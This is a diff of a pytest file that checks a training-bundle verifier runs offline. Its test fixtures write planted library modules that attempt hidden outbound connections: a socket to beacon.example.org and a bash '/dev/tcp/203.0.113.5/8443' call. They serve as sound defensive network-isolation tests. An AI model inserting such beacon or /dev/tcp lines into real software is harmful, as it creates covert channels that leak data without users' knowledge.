@@ -7,7 +7,6 @@ import json
 import os
 import shutil
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -22,7 +21,6 @@ from clustertune.recipe.load import find_elsewhere
 from clustertune.resolve.resolve import resolve
 from clustertune.staging import bundle, needs, verify
 from clustertune.staging.collect import BundlePart, Collector
-from clustertune.staging.worker import Bounds
 from tests.command import REPO, SHORT
 from tests.evaluate.test_tasks import choices, write_repository
 from tests.staging.conftest import DATASET, MODEL, REVISION, fill, flip, run, talks
@@ -63,41 +61,41 @@ def test_all_that_a_recipe_is_made_of_is_found(tmp_path: Path) -> None:
     assert len(find_elsewhere(mine, [], model)) == 2
 
 
-def test_who_phones_home_fails_the_verification(parcel_of_all: Path, tmp_path: Path) -> None:
-    """A library that asks and hides the failure, by its name; of one that leaves it to another program nothing gets out.
-
-    And nobody else: all steps of the chain are gone through, and no library of the stack asks for anything.
-    """
+def test_a_parcel_is_rehearsed_without_a_network(parcel_of_all: Path, tmp_path: Path) -> None:
+    """What the chain reads of it, each thing once; a program that a library starts gets nothing out."""
     if (refused := verify.no_namespace()) is not None:
         pytest.skip(f"no network namespaces here: {refused}")
-    planted = tmp_path / "planted"
-    fill(planted, {"nothing": 1})
-    (planted / "usage_beacon.py").write_text(
-        "import socket, subprocess, threading\n"
-        "def ask():\n"
-        "    try:\n        socket.create_connection(('beacon.example.org', 4433), 2)\n    except Exception:\n        pass\n"
-        "ask()\n"
-        "told = subprocess.run(['bash', '-c', 'echo > /dev/tcp/203.0.113.5/8443'], stderr=subprocess.PIPE, text=True).stderr\n"
-        "assert 'unreachable' in told, told\n"
-    )
+    planted = fill(tmp_path / "planted", {"nothing": 1})
     (planted / "langdetect.py").write_text(
-        "import usage_beacon\nclass DetectorFactory:\n    seed = 0\nclass LangDetectException(Exception): pass\n"
+        "import subprocess\n"
+        "shell = ['bash', '-c', 'echo > /dev/tcp/203.0.113.5/8443']\n"
+        "assert 'unreachable' in subprocess.run(shell, stderr=subprocess.PIPE, text=True).stderr\n"
+        "class DetectorFactory:\n    seed = 0\nclass LangDetectException(Exception): pass\n"
         "def detect(text): return 'en'\n"
     )
-    environment = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), str(planted)])}
-    words = [sys.executable, "-m", "clustertune", "stage", "--verify", str(parcel_of_all), "--json"]
-    done = subprocess.run(words, cwd=REPO, env=environment, capture_output=True, text=True, timeout=600, check=False)
-    assert done.returncode == 2, done.stderr
-    found = {(a["library"], a["host"], a["port"]) for a in json.loads(done.stdout)["attempts"]}
-    assert found == {("usage_beacon", "beacon.example.org", 4433)}
-    steps = json.loads(done.stdout)["steps"]
-    assert len(steps) == 8 and not any(step["problems"] or step["found"].startswith("left out") for step in steps)
-    told = {step["step"]: step["found"] for step in steps}
-    assert told["data"] == "train: 12 conversations, eval: 3 conversations"
-    assert "llama, 21 tensors in 1 files" in told["model"] and "logits, finite" in told["forward"]
-    assert told["benchmark"].startswith("36 prompts of google/IFEval")
-    assert "usage_beacon asked for beacon.example.org:4433 during step" in done.stderr
-    assert "usage_beacon.py:4 ask" in done.stderr
+    done = run("stage", "--verify", parcel_of_all, "--json", PYTHONPATH=os.pathsep.join([str(REPO), str(planted)]))
+    assert done.code == 0, done.err
+    steps = {step["step"]: step["found"] for step in done.json["steps"]}
+    assert steps["prepare"].startswith("train: 12 conversations, eval: 3 conversations, ")
+    assert "llama, 21 tensors in 1 files" in steps["model"] and "logits, finite" in steps["model"]
+    assert steps["benchmark"].startswith("36 prompts of google/IFEval")
+
+
+@pytest.mark.parametrize("part", ["tokenizer", "data", "weights"])
+def test_what_a_parcel_lacks_is_found_before_it_travels(staged: Path, part: str) -> None:
+    """Its sums are right, for it was sealed so."""
+    model = bundle.model_folder(staged)
+    assert model is not None
+    gone = {"tokenizer": "tokenizer*", "data": "train.jsonl", "weights": "*.safetensors"}[part]
+    for path in (needs.snapshot(staged / "hub", "datasets", DATASET, REVISION) if part == "data" else model).glob(gone):
+        path.unlink()
+    meta = bundle.read(staged).meta
+    (staged / manifest.MANIFEST).unlink()
+    manifest.seal(staged, bundle.KIND, meta)
+    done = run("stage", "--verify", staged, "--json")
+    assert done.code == 2 and "Traceback" not in done.err
+    failed = {step["step"] for step in done.json["steps"] if step["problems"]}
+    assert {"weights": "model"}.get(part, "prepare") in failed, done.err
 
 
 def test_a_damaged_parcel_is_not_rehearsed(staged: Path) -> None:
@@ -239,7 +237,7 @@ def test_what_a_recipe_names_by_path_is_carried_along(tmp_path: Path, tiny_model
     checked = run("stage", "--verify", tmp_path / "out", "--json")
     assert checked.code == 0, checked.err
     found = {step["step"]: step["found"] for step in checked.json["steps"]}
-    assert found["data"].startswith("train: 19") and found["benchmark"].startswith("2 prompts of prompts.jsonl")
+    assert found["prepare"].startswith("train: 19") and found["benchmark"].startswith("2 prompts of prompts.jsonl")
     run_words = [*words, f"staged={tmp_path / 'out'}", "--ranks", "2", "--run-dir", tmp_path / "r", *SHORT]
     ran = run("run", tmp_path / "out/recipes/tiny-oasst2", *run_words, "--to", "train", network=False)
     assert ran.code == 0, ran.err
@@ -260,7 +258,7 @@ def plan(tmp_path: Path, **container: str) -> tuple[list[BundlePart], list[str]]
     """The parts of the tiny recipe for a cluster with this container, and the notes."""
     cluster = load_cluster("local").model_copy(update={"container": Container.model_validate(container)})
     resolved = resolve("recipes/tiny-oasst2", [], tiny=False)
-    collector = Collector(resolved, cluster, tmp_path / "out", None, Bounds())
+    collector = Collector(resolved, cluster, tmp_path / "out", None, 60)
     return [part for part in collector.plan() if part.what == "container"], collector.notes
 
 
